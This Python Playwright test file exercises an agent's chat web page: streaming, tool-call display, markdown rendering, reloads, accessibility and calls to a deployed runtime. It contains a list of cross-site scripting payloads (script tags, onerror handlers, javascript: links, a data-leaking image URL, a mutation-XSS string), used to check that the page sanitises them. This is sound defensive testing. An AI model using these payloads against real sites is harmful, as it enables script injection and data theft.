"""The chat page as people use it."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import BrowserContext, Locator, Page, Request, Route, expect

from tests.browser.agents import serve
from tests.deployment.projects import render

QUESTION = "What's the weather in Paris, what time is it in Tokyo, and what is 37*12+5?"
ARN = "arn:aws:bedrock-agentcore:eu-west-1:123456789012:runtime/my_agent-AbCdEf1234"
PHONE = {"width": 390, "height": 844}
MARKDOWN = """\
# Trip

Paris has **18 °C** and <b>rain</b>; see [the map](https://example.com/map).

| City | °C |
|---|---:|
| Paris | 18 |

```python
print("<hello>")
```

> Enjoy.
"""
ATTACKS = [
    "<script>document.title = 'owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\"></svg>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "<style>* { display: none }</style>",
    "<a href=\"javascript:document.title='owned'\">click</a>",
    "[click](javascript:document.title='owned')",
    "[click](JaVaScRiPt&colon;document.title='owned')",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![pixel](https://example.com/leak?q=secret)",
    "[x]: javascript:document.title='owned'\n\n[x]",
    "```\"><script>document.title='owned'</script>\ncode\n```",
    "<form action=https://example.com><input name=a></form>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
]


def ask(page: Page, question: str) -> Locator:
    """Ask with the keyboard; gives the turn."""
    page.get_by_label("Your question").fill(question)
    page.keyboard.press("Enter")
    return page.locator("article").last


def finished(turn: Locator) -> Locator:
    """The turn, once it has ended."""
    expect(turn.locator(".numbers")).to_be_visible(timeout=30_000)
    return turn


def say(page: Page, text: str) -> Locator:
    """Make the agent answer with this text, which is also a tool's result."""
    return finished(ask(page, f"call echo {json.dumps({'text': text})}"))


def test_text_grows_while_it_streams(page: Page) -> None:
    turn = ask(page, "Count to 200")
    seen: set[int] = set()
    while turn.locator(".numbers").count() == 0:
        seen.add(len(turn.locator(".answer").inner_text()))
    assert len(seen) > 10
    assert turn.locator(".text").inner_text() == " ".join(map(str, range(1, 201)))
    assert re.fullmatch(r"first token \d+\.\d\d s · \d+\.\d s · [\d,]+ tokens", turn.locator(".numbers").inner_text())


def test_a_tool_call_opens_to_its_arguments_and_result(page: Page) -> None:
    turn = finished(ask(page, QUESTION))
    calls = turn.locator("details")
    assert calls.count() == 3
    weather = calls.filter(has_text="get_weather")
    assert re.fullmatch(r'get_weather\(city="Paris"\)\s*\d+\.\d s', weather.locator("summary").inner_text())
    expect(weather.get_by_text("°C")).not_to_be_visible()
    weather.locator("summary").press("Enter")
    expect(weather.get_by_text("°C")).to_be_visible()
    assert json.loads(weather.locator("pre").first.inner_text()) == {"city": "Paris"}
    assert "449" in turn.locator(".text").last.inner_text()


def test_thoughts_are_seen_while_they_come_and_fold_away(
    context: BrowserContext, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("REQUEST_FIELDS", '{"thinking": {"type": "adaptive"}}')
    with serve(project) as agent:
        page = context.new_page()
        page.goto(agent.url)
        turn = ask(page, "Count to 5")
        thoughts = turn.locator("details.thoughts")
        expect(thoughts.get_by_text("They ask")).to_be_visible()
        finished(turn)
        expect(thoughts.get_by_text("They ask")).not_to_be_visible()
        assert re.fullmatch(r"Thought for \d+\.\d s", thoughts.locator("summary").inner_text())
        thoughts.locator("summary").press("Enter")
        expect(thoughts.get_by_text("They ask: “Count to 5”. Let me see what that needs.")).to_be_visible()
        assert turn.locator(".text").inner_text() == "1 2 3 4 5"
        assert_accessible(page)


def test_markdown_is_rendered_and_html_is_shown(page: Page) -> None:
    answer = say(page, f"\n\n{MARKDOWN}").locator(".text").last
    expect(answer.get_by_role("heading", name="Trip", level=3)).to_be_visible()
    expect(answer.get_by_role("cell", name="18")).to_be_visible()
    assert answer.locator("pre code").inner_text() == 'print("<hello>")\n'
    assert "<b>rain</b>" in answer.inner_text()
    link = answer.get_by_role("link", name="the map")
    assert link.get_attribute("href") == "https://example.com/map"
    assert link.get_attribute("rel") == "noopener noreferrer"


def test_what_streamed_in_pieces_looks_like_the_whole(page: Page) -> None:
    text = say(page, f"\n\n{MARKDOWN}").locator(".text").last
    streamed = text.inner_html()
    page.reload()
    assert page.locator(".text").last.inner_html() == streamed


def test_what_an_attacker_writes_does_nothing(page: Page) -> None:
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    for attack in ATTACKS:
        say(page, f"\n\n{attack}\n").locator("summary").click()
    for link in page.locator("article a:not([href^='https://'])").all():
        link.click()
    page.reload()
    expect(page.locator("details")).to_have_count(len(ATTACKS))
    assert page.title() == "my-agent"
    assert page.locator("article").locator("script, style, img, svg, iframe, form, input, math, [onerror]").count() == 0
    assert {urlsplit(url).hostname for url in requests} == {"127.0.0.1"}
    assert [page.url for page in page.context.pages] == [page.url]


def test_a_script_that_got_into_the_page_would_not_run(page: Page) -> None:
    page.evaluate("""() => {
        const script = document.createElement("script");
        try { script.text = "document.title = 'owned'"; } catch { script.append("document.title = 'owned'"); }
        document.body.append(script);
    }""")
    assert page.title() == "my-agent"
    with pytest.raises(Exception, match="TrustedHTML"):
        page.evaluate("document.body.innerHTML = '<p>'")


@pytest.mark.parametrize("how", ["button", "Escape"])
def test_an_answer_is_stopped_and_the_session_goes_on(page: Page, how: str) -> None:
    turn = ask(page, "Count to 9000")
    expect(turn).to_contain_text("1 2 3")
    page.keyboard.press("Escape") if how == "Escape" else page.get_by_label("Stop the answer").click()
    expect(turn.locator(".numbers")).to_contain_text("Stopped")
    assert "first question" in finished(ask(page, "What did I ask before?")).inner_text()


def test_a_reload_keeps_the_conversations(page: Page) -> None:
    finished(ask(page, "What is 6*7?"))
    page.get_by_role("button", name="New conversation").first.click()
    finished(ask(page, "Count to 3"))
    page.reload()
    names = page.locator("#list button").all_inner_texts()
    assert names == ["Count to 3", "What is 6*7?"]
    assert "1 2 3" in page.locator("article").inner_text()
    page.get_by_role("button", name="What is 6*7?").click()
    assert "42" in page.locator("article").inner_text()
    assert "What is 6*7?" in finished(ask(page, "What was my first question?")).locator(".text").inner_text()


def test_a_reload_in_the_middle_of_an_answer_keeps_what_came(page: Page) -> None:
    expect(ask(page, "Count to 9000")).to_contain_text("1 2 3")
    page.reload()
    expect(page.locator("article")).to_contain_text("1 2 3")
    expect(page.locator(".numbers")).to_contain_text("Stopped")


def test_conversations_run_side_by_side(page: Page) -> None:
    expect(ask(page, "Count to 300")).to_contain_text("1 2 3")
    page.get_by_role("button", name="New conversation").first.click()
    assert "42" in finished(ask(page, "What is 6*7?")).inner_text()
    page.get_by_role("button", name="Count to 300").click()
    expect(finished(page.locator("article"))).to_contain_text("299 300")


def test_a_dropped_connection_is_told_and_can_be_tried_again(context: BrowserContext, project: Path) -> None:
    page = context.new_page()
    with serve(project) as served:
        page.goto(served.url)
        expect(ask(page, "Count to 500")).to_contain_text("1 2 3")
        served.kill()
        expect(page.locator(".error")).to_contain_text("The connection broke")
        expect(page.get_by_role("status")).to_contain_text("The connection broke")
    page.get_by_role("button", name="Try again").click()
    expect(page.locator(".error")).to_contain_text("No agent answers")
    with serve(project, urlsplit(served.url).port or 0):
        page.get_by_role("button", name="Try again").click()
        expect(finished(page.locator("article"))).to_contain_text("499 500")


def test_what_the_agent_refuses_is_told(page: Page) -> None:
    page.route("**/invocations", lambda route: route.continue_(post_data='{"prompt": ""}'))
    expect(finished(ask(page, "Hello")).locator(".error")).to_contain_text("invalid_prompt")


def test_an_address_that_is_no_agent_is_told(page: Page) -> None:
    page.route("**/invocations", lambda route: route.fulfill(status=200, body="data: <html>\n\n"))
    expect(finished(ask(page, "Hello")).locator(".error")).to_contain_text("not_an_agent")


def test_a_deployed_runtime_is_asked_with_the_token(page: Page) -> None:
    asked: list[Request] = []

    def answer(route: Route) -> None:
        asked.append(route.request)
        headers = {"access-control-allow-origin": "*", "access-control-allow-headers": "*"}
        events: list[dict[str, Any]] = [
            {"type": "FROM_THE_FUTURE"},
            {"type": "TEXT_MESSAGE_CONTENT", "delta": "From afar"},
            {"type": "RUN_FINISHED"},
        ]
        route.fulfill(headers=headers, body="".join(f"data: {json.dumps(event)}\n\n" for event in events))

    page.route("https://*.amazonaws.com/**", answer)
    page.get_by_role("button", name="Where the agent is").click()
    page.get_by_label("ARN of an AgentCore runtime").fill(ARN)
    page.get_by_label("Bearer token").fill("secret-token")
    page.keyboard.press("Enter")
    expect(page.locator("header")).to_contain_text("my_agent-AbCdEf1234")
    assert "From afar" in finished(ask(page, "Hello")).inner_text()
    assert asked[-1].url == (
        "https://bedrock-agentcore.eu-west-1.amazonaws.com/runtimes/"
        "arn%3Aaws%3Abedrock-agentcore%3Aeu-west-1%3A123456789012%3Aruntime%2Fmy_agent-AbCdEf1234"
        "/invocations?qualifier=DEFAULT"
    )
    assert asked[-1].headers["authorization"] == "Bearer secret-token"
    assert re.fullmatch(r"[a-zA-Z0-9-]{33,100}", asked[-1].headers["x-amzn-bedrock-agentcore-runtime-session-id"])


def test_keys_do_what_the_page_says(page: Page) -> None:
    box = page.get_by_label("Your question")
    expect(box).to_be_focused()
    page.keyboard.type("Count")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("to 3")
    assert box.input_value() == "Count\nto 3"
    page.keyboard.press("Enter")
    finished(page.locator("article"))
    expect(box).to_be_focused()
    page.keyboard.press("ArrowUp")
    assert box.input_value() == "Count\nto 3"


def test_a_screen_reader_is_told_the_answer_once(page: Page) -> None:
    turn = ask(page, "Count to 40")
    expect(page.get_by_role("status")).to_have_text("Answering.")
    finished(turn)
    expect(page.get_by_role("status")).to_have_text(" ".join(map(str, range(1, 41))))


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("phone", [False, True], ids=["desktop", "phone"])
def test_axe_finds_nothing(page: Page, scheme: Any, phone: bool) -> None:
    page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
    if phone:
        page.set_viewport_size(PHONE)  # type: ignore[arg-type]
    assert_accessible(page)
    say(page, f"\n\n{MARKDOWN}").locator("summary").click()
    expect(ask(page, "Count to 9000")).to_contain_text("1 2 3")
    assert_accessible(page)
    page.keyboard.press("Escape")
    if phone:
        page.get_by_role("button", name="Conversations").click()
    assert_accessible(page)
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Where the agent is").click()
    assert_accessible(page)


def assert_accessible(page: Page) -> None:
    results = Axe().run(page)
    assert results.violations_count == 0, results.generate_report()


def test_a_phone_never_scrolls_sideways(page: Page) -> None:
    page.set_viewport_size(PHONE)  # type: ignore[arg-type]
    say(page, f"\n\n{'x' * 400}\n\n| {' | '.join(map(str, range(40)))} |\n{'|---' * 40}|\n\n    {'y' * 400}\n")
    assert page.evaluate("document.documentElement.scrollWidth") == PHONE["width"]
    assert page.locator("main").evaluate("main => main.scrollWidth - main.clientWidth") == 0


def test_the_page_follows_the_answer_unless_its_reader_scrolls_up(page: Page) -> None:
    page.set_viewport_size({"width": 400, "height": 400})
    main = page.locator("main")
    hidden = "main => main.scrollHeight - main.scrollTop - main.clientHeight"
    turn = ask(page, "Count to 3000")
    expect(turn).to_contain_text("199 200", timeout=60_000)
    assert main.evaluate(hidden) < 40
    main.hover()
    page.mouse.wheel(0, -150)
    expect(turn).to_contain_text("299 300", timeout=60_000)
    assert main.evaluate(hidden) > 200


def test_the_page_is_the_same_for_either_protocol(tmp_path: Path) -> None:
    first, second = (render(tmp_path / name, protocol=name, project_name="my-agent") for name in ("http", "ag-ui"))
    files = sorted(path for path in first.glob("clients/web/**/*") if path.is_file())
    assert len(files) > 10
    for path in [*files, first / "src/my_agent/inputs.py"]:
        assert path.read_bytes() == (second / path.relative_to(first)).read_bytes()
